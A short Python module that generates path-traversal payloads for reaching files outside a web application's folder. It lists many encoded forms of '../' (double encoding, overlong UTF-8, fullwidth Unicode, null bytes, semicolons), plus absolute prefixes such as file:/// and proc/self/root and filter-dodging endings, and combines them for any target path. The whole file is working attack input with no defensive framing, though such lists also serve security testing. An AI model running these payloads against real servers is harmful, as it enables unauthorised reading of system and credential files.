"""Ways up and out of a folder, as they stand in an address: plain, encoded, twice, with lies between."""

from __future__ import annotations

from collections.abc import Iterator

UPWARDS = [
    "../", "..%2f", "..%2F", "%2e%2e/", "%2e%2e%2f", ".%2e/", "%2e./", "..%5c", "..\\", "%2e%2e%5c",
    "%252e%252e%252f", "..%252f", "%25252e%25252e%25252f", "....//", "....%2f%2f", "..../", "..;/",
    "..;a=b/", "..%00/", "..%0d/", "%c0%ae%c0%ae/", "%c0%ae%c0%ae%c0%af", "..%c0%af", "%e0%80%ae%e0%80%ae/",
    "..%e0%80%af", "%ef%bc%8e%ef%bc%8e%ef%bc%8f", "%uff0e%uff0e%u2215", "..%u2215", "..%ef%bc%8f",
    "%e2%80%a5%2f", "./../", "//../", "/../", "%2f%2e%2e%2f", "..//", "..%2f%2f", "~/",
]  # fmt: skip
AT_ONCE = [
    "/{}", "%2f{}", "file:///{}", "file%3a%2f%2f%2f{}", "%5c{}", "//localhost/{}", "{}", "./{}",
    "proc/self/root/{}", "%2fproc%2fself%2froot%2f{}",
]  # fmt: skip
ENDS = ["", "%00", "%00.webp", "%23", "%3f", "/.", "%20", ".", "%2f"]
DEPTHS = (1, 2, 3, 5, 8)


def ways(target: str) -> Iterator[str]:
    """Every way to a file that lies some folders up, or by its whole path."""
    for number, up in enumerate(UPWARDS):
        for depth in DEPTHS:
            yield up * depth + target + ENDS[(number + depth) % len(ENDS)]
            yield up * depth + target
    for number, way in enumerate(AT_ONCE):
        yield way.format(target)
        yield way.format(target) + ENDS[number % len(ENDS)]
